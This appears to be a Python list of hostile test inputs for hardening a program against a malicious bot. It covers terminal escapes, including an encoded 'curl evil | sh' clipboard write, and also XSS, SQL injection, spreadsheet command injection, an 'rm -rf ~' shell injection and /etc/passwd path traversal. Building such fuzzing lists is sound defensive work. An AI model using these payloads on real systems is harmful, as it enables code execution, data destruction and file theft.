"""What a hostile bot would have us print, store or run. Each is a text that some program has taken for something else."""

PAYLOADS = (
    # terminals: colours, titles, clipboards, cleared screens, moved cursors, bells
    "\x1b[31mred\x1b[0m",
    "\x1b]0;a title\x07",
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "\x1b[2J\x1b[H",
    "\x9b31mC1",
    "good\rbad",
    "12345\b\b\b\b\b",
    "\x07\x00\x7f",
    # lines that are not ours
    "one\ntwo",
    "one\u2028two\u2029three\x85four\x0b\x0c",
    '\n{"game": 1, "winner": "me"}',
    "error: the disk is full\nstopped",
    # what cannot be seen, or turns the line round
    "\u202egnp.exe",
    "\u2066a\u2069b",
    "a\u200bb\u200dc\ufeffd",
    "\U000e0041\U000e0042",
    "\ue000\U0010fffd\ufffe\U0001fffe\u0378",
    "\u00ad\u2060\u061c",
    # pages
    "<script>alert(1)</script>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "</td></table></style></title><h1>me</h1>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href=javascript:alert(1)>me</a>",
    "<!--",
    "]]><b>",
    "&lt;script&gt; &amp; &#x3c;b&#x3e;",
    # Markdown
    "a | b | c",
    "\\| \\",
    "```\n# me\n```",
    "[me](javascript:alert(1)) ![](http://127.0.0.1/x)",
    # spreadsheets
    '=HYPERLINK("http://127.0.0.1/","me")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1-1",
    "@SUM(1)",
    "\t=1+1",
    # databases, templates, shells, disks
    "'; DROP TABLE games; --",
    '" OR 1=1 --',
    "{0.__class__} {} %s %n ${HOME} {{7*7}}",
    "$(touch /tmp/x) `id` ; rm -rf ~ #",
    "../../../etc/passwd",
    "/etc/passwd",
    "a/../b\\..\\c",
    "-rf",
    ".hidden",
    "CON",
    "nul.txt",
    "Bо1",  # the second letter is Cyrillic
    "\uff21da",
)
